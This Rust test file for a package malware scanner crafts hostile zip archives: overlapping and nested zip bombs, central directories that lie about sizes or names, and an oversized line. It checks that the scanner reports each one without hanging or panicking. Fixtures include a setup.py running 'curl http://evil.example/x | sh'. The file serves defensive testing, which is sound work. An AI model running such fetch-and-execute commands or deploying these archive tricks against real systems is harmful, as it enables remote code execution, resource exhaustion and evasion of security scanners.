//! Crafted zip files, built here byte by byte where the zip writer would refuse: central
//! directories that repeat or lie, bombs nested and overlapping, and a 200 MB line. Each is
//! reported (a finding or an error entry) within bounded time, and none panics.

use std::io::Write;

mod support;
use std::time::{Duration, Instant};

use malpi_rules::{RuleId, VerdictKind};
use malpi_scan::{PackageInfo, PackageKind, Report, ScanOptions, scan_bytes};
use zip::write::SimpleFileOptions;

fn zip_of(entries: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default()
        .compression_method(method)
        .large_file(true);
    for (name, data) in entries {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn scan_timed(name: &str, bytes: &[u8]) -> (Report, Duration) {
    support::keep_case(name, bytes);
    let start = Instant::now();
    let r = scan_bytes(
        PackageInfo::new(format!("/hostile/{name}"), PackageKind::File),
        bytes,
        &ScanOptions::default(),
    );
    (r, start.elapsed())
}

fn u16_at(b: &[u8], at: usize) -> usize {
    u16::from_le_bytes([b[at], b[at + 1]]) as usize
}

fn u32_at(b: &[u8], at: usize) -> usize {
    u32::from_le_bytes(b[at..at + 4].try_into().unwrap()) as usize
}

/// The (offset, size) of the central directory, from the end-of-central-directory record
/// of a zip written without a comment.
fn central_directory(z: &[u8]) -> (usize, usize) {
    let eocd = z.len() - 22;
    assert_eq!(&z[eocd..eocd + 4], b"PK\x05\x06");
    (u32_at(z, eocd + 16), u32_at(z, eocd + 12))
}

/// A zip whose central directory lists `copies` entries that all point at the same local
/// file: the overlapping-entries bomb (a few kilobytes claiming gigabytes, no nesting).
fn overlapping_bomb(copies: usize) -> Vec<u8> {
    let zeros = vec![0u8; 16 << 20];
    let z = zip_of(
        &[("b/k00000.bin", &zeros)],
        zip::CompressionMethod::Deflated,
    );
    let (cd_at, cd_len) = central_directory(&z);
    let entry = &z[cd_at..cd_at + cd_len];
    let name_at = 46;
    let mut out = z[..cd_at].to_vec();
    for i in 0..copies {
        let mut e = entry.to_vec();
        e[name_at..name_at + 12].copy_from_slice(format!("b/k{i:05}.bin").as_bytes());
        out.extend_from_slice(&e);
    }
    let mut eocd = z[z.len() - 22..].to_vec();
    eocd[8..10].copy_from_slice(&(copies as u16).to_le_bytes());
    eocd[10..12].copy_from_slice(&(copies as u16).to_le_bytes());
    eocd[12..16].copy_from_slice(&((cd_len * copies) as u32).to_le_bytes());
    out.extend_from_slice(&eocd);
    out
}

#[test]
fn an_overlapping_entries_bomb_stops_at_a_limit() {
    let bomb = overlapping_bomb(2_000);
    assert!(bomb.len() < 200_000, "{} bytes", bomb.len());
    let (r, took) = scan_timed("overlap.zip", &bomb);
    assert!(
        r.findings.iter().any(|f| f.rule == RuleId::Pkg001) || !r.errors.is_empty(),
        "{r:#?}"
    );
    assert!(took < Duration::from_secs(60), "{took:?}");
}

/// Zips of zips of zeros. A scan opens nested archives only when it wants their content, so
/// here the archive layer is asked for everything, as a nested payload would make it.
#[test]
fn a_nested_bomb_stops_at_a_limit() {
    let zeros = vec![0u8; 16 << 20];
    let inner_names: Vec<String> = (0..10).map(|i| format!("z/{i}.bin")).collect();
    let inner = zip_of(
        &inner_names
            .iter()
            .map(|n| (n.as_str(), zeros.as_slice()))
            .collect::<Vec<_>>(),
        zip::CompressionMethod::Deflated,
    );
    let names: Vec<String> = (0..10).map(|i| format!("n/{i}.zip")).collect();
    let outer = zip_of(
        &names
            .iter()
            .map(|n| (n.as_str(), inner.as_slice()))
            .collect::<Vec<_>>(),
        zip::CompressionMethod::Stored,
    );
    let start = Instant::now();
    let archive =
        malpi_archive::read_archive(&outer, &malpi_scan::Limits::default(), &|_| true).unwrap();
    assert!(
        archive.problems.iter().any(|p| matches!(
            p,
            malpi_archive::Problem::LimitTripped {
                limit: malpi_archive::LimitKind::Ratio | malpi_archive::LimitKind::TotalBytes,
                ..
            }
        )),
        "{:?}",
        archive.problems
    );
    let kept: usize = archive.members.iter().map(|m| m.data.len()).sum();
    assert!(kept < 600 << 20, "{kept} bytes kept");
    assert!(start.elapsed() < Duration::from_secs(60));
    // The whole scan does not expand it at all: nothing it needs is inside.
    let (r, took) = scan_timed("nested.zip", &outer);
    assert_ne!(r.verdict, VerdictKind::Error);
    assert!(took < Duration::from_secs(60), "{took:?}");
}

/// The central directory says a stored setup.py is 12 bytes; its local data holds the whole
/// script (what is read follows the directory, and the CRC then disagrees).
#[test]
fn a_central_directory_that_lies_about_sizes_is_an_error_entry() {
    let script = b"import os\nos.system('curl http://evil.example/x | sh')\n";
    let z = zip_of(
        &[("p-1/setup.py", script.as_slice())],
        zip::CompressionMethod::Stored,
    );
    let (cd_at, _) = central_directory(&z);
    let mut lying = z.clone();
    // Compressed and uncompressed sizes in the central entry (offsets 20 and 24).
    lying[cd_at + 20..cd_at + 24].copy_from_slice(&12u32.to_le_bytes());
    lying[cd_at + 24..cd_at + 28].copy_from_slice(&12u32.to_le_bytes());
    let (r, _) = scan_timed("lying.zip", &lying);
    assert_ne!(r.verdict, VerdictKind::Error, "{r:#?}");
    assert!(
        !r.errors.is_empty() || !r.findings.is_empty(),
        "a lying directory went unreported: {r:#?}"
    );
}

/// The central directory names one file, the local header another: a reader that trusts the
/// local header (as some extractors do) sees other contents than pip.
#[test]
fn names_that_differ_between_directory_and_local_header_are_read_without_panic() {
    let z = zip_of(
        &[(
            "p-1/setup.py",
            b"import os\nos.system('curl http://evil.example/x | sh')\n".as_slice(),
        )],
        zip::CompressionMethod::Stored,
    );
    let mut renamed = z.clone();
    let name_len = u16_at(&z, 26);
    assert_eq!(&z[30..30 + name_len], b"p-1/setup.py");
    renamed[30..30 + name_len].copy_from_slice(b"p-1/READMEx1");
    let (r, _) = scan_timed("renamed.zip", &renamed);
    assert_ne!(r.verdict, VerdictKind::Error, "{r:#?}");
    assert!(!r.findings.is_empty() || !r.errors.is_empty(), "{r:#?}");
}

#[test]
fn a_200_mb_single_line_is_cut_at_the_member_limit() {
    let mut line = Vec::with_capacity((200 << 20) + 64);
    line.extend_from_slice(b"x = '");
    line.resize(200 << 20, b'A');
    line.extend_from_slice(b"'\nimport os\nos.system('id')\n");
    let z = zip_of(&[("p-1/setup.py", &line)], zip::CompressionMethod::Deflated);
    drop(line);
    let (r, took) = scan_timed("line.zip", &z);
    assert!(
        r.errors
            .iter()
            .any(|e| e.contains("limit") || e.contains("ratio")),
        "{:?}",
        r.errors
    );
    assert!(took < Duration::from_secs(120), "{took:?}");
}
